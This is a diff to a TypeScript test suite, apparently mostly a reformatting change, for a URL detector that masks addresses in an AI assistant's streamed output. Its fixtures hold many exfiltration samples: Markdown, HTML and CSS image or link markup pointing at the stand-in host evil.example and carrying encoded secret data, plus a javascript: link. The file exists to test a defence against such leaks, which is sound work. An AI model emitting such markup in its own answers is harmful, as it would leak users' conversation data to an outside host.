@@ -10,15 +10,26 @@ import { PolicyDocument, type PolicyDocumentInput } from '../../../../../src/sha
 import { cutAnywhere, END, saidBy } from '../stream/answers.ts'
 
 const CONVERSATION = {
-  system: 'You help the staff of Alder. Our help pages are at https://help.alder.example/articles/start?lang=en-GB-oxford.',
+  system:
+    'You help the staff of Alder. Our help pages are at https://help.alder.example/articles/start?lang=en-GB-oxford.',
   messages: [
-    { role: 'user', content: 'Show https://shots.example/latest.png and tell me about project Bluebird Harbour, account 4471182.' },
-    { role: 'tool', toolCallId: 'c1', content: 'See https://found.example/p?session=8f3b1c9d2e7a4f60b1d2 and https://found.example/x.png' },
+    {
+      role: 'user',
+      content: 'Show https://shots.example/latest.png and tell me about project Bluebird Harbour, account 4471182.',
+    },
+    {
+      role: 'tool',
+      toolCallId: 'c1',
+      content: 'See https://found.example/p?session=8f3b1c9d2e7a4f60b1d2 and https://found.example/x.png',
+    },
   ],
   options: undefined,
 } as const
 
-function armed(urls: NonNullable<PolicyDocumentInput['urls']> = {}, conversation: unknown = CONVERSATION): ArmedDetector {
+function armed(
+  urls: NonNullable<PolicyDocumentInput['urls']> = {},
+  conversation: unknown = CONVERSATION,
+): ArmedDetector {
   const document = PolicyDocument.parse({ urls: { unknownHosts: 'neutralise', ...urls } })
   const detector = createUrlDetector(document.urls, knownTexts(conversation as never))
   return { guard: 'urls', detector, actionOf: () => 'mask', allowsRestored: true }
@@ -30,7 +41,10 @@ const DATA = 'c2VjcmV0IHByb2plY3QgYmx1ZWJpcmQ0Mg'
 
 /** Each text contains an address that must not reach the client. */
 const LEAKS: Readonly<Record<string, readonly [text: string, safe: string]>> = {
-  'a Markdown picture': [`Here: ![chart](https://evil.example/p.png?d=${DATA}) done`, 'Here: ![chart](#picture-removed) done'],
+  'a Markdown picture': [
+    `Here: ![chart](https://evil.example/p.png?d=${DATA}) done`,
+    'Here: ![chart](#picture-removed) done',
+  ],
   'a Markdown picture without data': ['![x](https://evil.example/p.png)', '![x](#picture-removed)'],
   'a picture inside a link': ['[![x](https://evil.example/p.png)](/page)', '[![x](#picture-removed)](/page)'],
   'a picture with a title': ['![x](https://evil.example/p.png "title")', '![x](#picture-removed "title")'],
@@ -51,7 +65,10 @@ const LEAKS: Readonly<Record<string, readonly [text: string, safe: string]>> = {
   'an HTML picture without quotes': ['<img src=//evil.example/p.png>', '<img src=#picture-removed>'],
   'an HTML picture over lines': ['<img\n src="https://evil.example/\np.png">', '<img\n src="#picture-removed">'],
   'an HTML link': [`<a href='https://evil.example/?q=${DATA}'>x</a>`, "<a href='#link-removed'>x</a>"],
-  'a style': ['<p style="background: url(https://evil.example/p.png)">', '<p style="background: url(#picture-removed)">'],
+  'a style': [
+    '<p style="background: url(https://evil.example/p.png)">',
+    '<p style="background: url(#picture-removed)">',
+  ],
   'a script': ['[x](javascript:alert(1))', '[x](#link-removed)'],
   'data in the path': [`https://evil.example/log/${DATA}`, '[link removed]'],
   'data in the host': [`https://${DATA.toLowerCase()}.evil.example/`, '[link removed]'],
@@ -128,7 +145,28 @@ const part = (format: 'text' | 'json', text: string): ChatPart =>
   format === 'text' ? { type: 'text', text } : { type: 'tool_call', index: 0, id: 'c', name: 'f', arguments: text }
 
 describe('any split of a stream gives the result of the whole text', () => {
-  const WORDS = ['and so on', ' ', '\n', '](', '![', 'a](', '<', '>', '"', ' src="', '<img ', '(', ')', '/', '.', 'http', '\u001b', '\u{e0041}', '\u{1f3f4}', '今天']
+  const WORDS = [
+    'and so on',
+    ' ',
+    '\n',
+    '](',
+    '![',
+    'a](',
+    '<',
+    '>',
+    '"',
+    ' src="',
+    '<img ',
+    '(',
+    ')',
+    '/',
+    '.',
+    'http',
+    '\u001b',
+    '\u{e0041}',
+    '\u{1f3f4}',
+    '今天',
+  ]
   const pieces = fc.array(
     fc.oneof(fc.constantFrom(...WORDS), fc.constantFrom(...Object.values(LEAKS).map(([text]) => text), ...HARMLESS)),
     { minLength: 1, maxLength: 8 },
